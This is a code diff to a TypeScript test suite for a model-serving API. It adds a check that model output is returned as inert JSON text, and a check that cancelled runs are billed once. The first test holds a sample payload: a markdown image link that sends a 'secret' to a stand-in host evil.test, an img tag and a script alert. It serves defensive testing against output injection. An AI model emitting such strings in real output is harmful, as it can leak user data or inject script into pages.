@@ -46,6 +46,17 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
     assert.equal(stub.asked.length, 1)
   })
 
+  it('says what it says: what would be fetched or run elsewhere is a text here', async () => {
+    const { calls, run } = await stand()
+    const evil = '![x](https://evil.test/?q=secret) <img src="https://evil.test/"> <script>alert(1)</script>'
+    stub.answer = (_asked, response) => say(response, evil)
+    const { id, output } = await run()
+    assert.equal(output, evil)
+    const { headers } = await calls.get(`/v1/runs/${id}`)
+    assert.match(String(headers.get('content-type')), /^application\/json/)
+    assert.equal(headers.get('x-content-type-options'), 'nosniff')
+  })
+
   it('reads in a conversation what was said before', async () => {
     const { calls, run } = await stand()
     const conversationId = await calls.conversation()
@@ -170,6 +181,15 @@ onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
     assert.equal((await calls.post(`/v1/runs/${id}/cancel`)).body.status, 'cancelled')
     const [step] = await calls.steps(id)
     assert.deepEqual([step?.status, step?.reason], ['failed', 'cancelled'])
+    // What it had read and said by then is paid, once.
+    const { usage, credits } = (await calls.get(`/v1/runs/${id}`)).body
+    assert.ok(usage.inputTokens > 0 && usage.outputTokens > 0, JSON.stringify(usage))
+    const { body: ledger } = await calls.get('/v1/billing/ledger')
+    const debits = ledger.data.filter(({ kind }: { kind: string }) => kind === 'debit')
+    assert.deepEqual(
+      debits.map(({ price }: { price: number }) => price),
+      [credits],
+    )
     await calls.patch(`/v1/agents/${agentId}`, { timeoutMs: 1_000 })
     const late = await run()
     assert.deepEqual([late.status, late.error.details.reason], ['failed', 'timeout'])
